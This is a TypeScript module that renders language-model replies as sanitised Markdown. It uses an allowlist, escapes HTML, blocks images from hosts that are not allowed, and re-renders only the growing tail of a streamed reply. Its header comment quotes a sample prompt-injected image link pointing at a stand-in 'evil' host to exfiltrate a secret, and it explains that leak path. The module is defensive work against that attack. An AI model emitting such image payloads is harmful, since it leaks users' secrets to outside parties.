// Markdown for model output: marked for structure, DOMPurify with an allowlist for safety.
// Pure: text in, sanitised DOM out; no Lit, no element state, so it is easy to test and time.
//
// Safety, in layers:
// 1. Raw HTML in the model's text is never interpreted: marked's `html` renderer escapes it,
//    so `<script>` shows up as the literal characters.
// 2. Images outside the `allow-images` hosts are rendered as a link with their alt text, so
//    the browser never fetches them (a prompt-injected `![](https://evil/?q=secret)` leaks nothing).
// 3. DOMPurify, on a private instance (hooks never leak into the host page's DOMPurify),
//    keeps an allowlist of tags and attributes and only http(s)/mailto URLs; every link opens
//    in a new tab with `rel="noopener noreferrer nofollow"`.
//
// Incremental: `MarkdownStream` parses each finished top-level block once and keeps its DOM;
// only the growing tail is lexed and rendered again, so a long reply costs about the same per
// update as a short one.
import { Marked, type Token, type TokensList } from "marked";
import createDOMPurify from "dompurify";

export type MarkdownOptions = {
  /** Space-separated image hosts allowed to load, or `*` for any http(s) host. Default: none. */
  allowImages?: string;
  /** Label of the copy button on code blocks. */
  copyLabel?: string;
  /** Link text for a blocked image without alt text. */
  imageLabel?: string;
};

const ALLOWED_TAGS = [
  "a", "p", "br", "strong", "em", "del", "s", "code", "pre", "blockquote", "ul", "ol", "li",
  "h1", "h2", "h3", "h4", "h5", "h6", "hr", "table", "thead", "tbody", "tr", "th", "td", "img", "span",
];
const ALLOWED_ATTR = ["href", "title", "alt", "src", "class", "start", "align"];
const SAFE_URL = /^(?:https?:|mailto:)/i;

const escapeHtml = (s: string): string =>
  s.replace(/[&<>"']/g, (c) => ({ "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" })[c]!);

/** True when `src` is an http(s) URL whose host is in the space-separated `allow` list (or `*`). */
export function isAllowedImage(src: string | null | undefined, allow: string | undefined): boolean {
  if (!src || !allow?.trim()) return false;
  let url: URL;
  try {
    url = new URL(src);
  } catch {
    return false;
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return false;
  const host = url.hostname.toLowerCase();
  return allow
    .trim()
    .toLowerCase()
    .split(/\s+/)
    .some((h) => h === "*" || h === host || (h.startsWith("*.") && host.endsWith(h.slice(1))));
}

// marked and DOMPurify run synchronously, so the options of the current call live here.
let current: Required<MarkdownOptions> = { allowImages: "", copyLabel: "Copy", imageLabel: "Image" };

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    html({ text }) {
      return escapeHtml(text);
    },
    image({ href, title, text }) {
      const alt = escapeHtml(text);
      if (isAllowedImage(href, current.allowImages)) {
        const t = title ? ` title="${escapeHtml(title)}"` : "";
        return `<img src="${escapeHtml(href)}" alt="${alt}"${t}>`;
      }
      if (SAFE_URL.test(href ?? "")) {
        return `<a href="${escapeHtml(href)}" class="blocked-image">${alt || escapeHtml(current.imageLabel)}</a>`;
      }
      return alt;
    },
  },
});

const purify = createDOMPurify(window);
purify.addHook("afterSanitizeAttributes", (node) => {
  const el = node as Element;
  if (el.tagName === "A") {
    if (el.hasAttribute("href")) {
      el.setAttribute("target", "_blank");
      el.setAttribute("rel", "noopener noreferrer nofollow");
    }
  } else if (el.tagName === "IMG") {
    if (!isAllowedImage(el.getAttribute("src"), current.allowImages)) el.removeAttribute("src");
    el.setAttribute("loading", "lazy");
    el.setAttribute("referrerpolicy", "no-referrer");
  }
});

function sanitize(html: string): DocumentFragment {
  return purify.sanitize(html, {
    ALLOWED_TAGS,
    ALLOWED_ATTR,
    ALLOWED_URI_REGEXP: SAFE_URL,
    ALLOW_DATA_ATTR: false,
    ALLOW_ARIA_ATTR: false,
    RETURN_DOM_FRAGMENT: true,
  });
}

/** Adds a copy button above every code block; the element handles its clicks by delegation. */
function decorateCodeBlocks(frag: DocumentFragment): void {
  for (const pre of Array.from(frag.querySelectorAll("pre"))) {
    const doc = pre.ownerDocument;
    const wrap = doc.createElement("div");
    wrap.className = "code-block";
    const button = doc.createElement("button");
    button.type = "button";
    button.className = "copy";
    button.dataset.copy = "";
    button.textContent = current.copyLabel;
    pre.replaceWith(wrap);
    wrap.append(button, pre);
  }
}

function renderTokens(tokens: Token[], links: TokensList["links"]): DocumentFragment {
  const list = Object.assign(tokens.slice(), { links }) as TokensList;
  const frag = sanitize(marked.parser(list) as string);
  decorateCodeBlocks(frag);
  return frag;
}

function withOptions<T>(opts: MarkdownOptions, fn: () => T): T {
  const prev = current;
  current = { allowImages: opts.allowImages ?? "", copyLabel: opts.copyLabel ?? "Copy", imageLabel: opts.imageLabel ?? "Image" };
  try {
    return fn();
  } finally {
    current = prev;
  }
}

const normalise = (text: string): string => text.replace(/\r\n?/g, "\n");

/** Renders a whole Markdown document to a sanitised fragment (owned by an inert document until inserted). */
export function renderMarkdown(text: string, opts: MarkdownOptions = {}): DocumentFragment {
  return withOptions(opts, () => {
    const tokens = marked.lexer(normalise(text));
    return renderTokens(tokens, tokens.links);
  });
}

/**
 * Markdown for a reply that grows at the end. `update(text)` returns one element per top-level
 * block; blocks that are finished (followed by another block) are parsed once and the same
 * element is returned on every later call, so a renderer that diffs by identity leaves them alone.
 */
export class MarkdownStream {
  /** How many times a block was rendered (marked parser + sanitiser). For tests and benchmarks. */
  parseCount = 0;
  private _text = "";
  private _stableEnd = 0;
  private _stable: HTMLElement[] = [];
  private _tail: HTMLElement | null = null;

  constructor(private readonly _opts: MarkdownOptions = {}) {}

  get blocks(): HTMLElement[] {
    return this._tail ? [...this._stable, this._tail] : this._stable;
  }

  update(input: string): HTMLElement[] {
    const text = normalise(input);
    if (text === this._text) return this.blocks;
    if (this._stableEnd > text.length || !text.startsWith(this._text.slice(0, this._stableEnd))) {
      this._stableEnd = 0;
      this._stable = [];
    }
    this._text = text;
    withOptions(this._opts, () => {
      const rest = text.slice(this._stableEnd);
      const tokens = marked.lexer(rest);
      let last = tokens.length - 1;
      while (last >= 0 && tokens[last]!.type === "space") last--;
      // Caching relies on the tokens covering the text exactly; when they do not, re-render all of it.
      const covered = tokens.reduce((n, t) => n + t.raw.length, 0) === rest.length;
      let first = 0;
      if (covered) {
        for (; first < last; first++) {
          const t = tokens[first]!;
          this._stableEnd += t.raw.length;
          if (t.type !== "space") this._stable.push(this._block([t], tokens.links));
        }
      }
      const tail = tokens.slice(first);
      this._tail = tail.some((t) => t.type !== "space") ? this._block(tail, tokens.links) : null;
    });
    return this.blocks;
  }

  private _block(tokens: Token[], links: TokensList["links"]): HTMLElement {
    this.parseCount++;
    const el = document.createElement("div");
    el.className = "md-block";
    el.append(renderTokens(tokens, links));
    return el;
  }
}
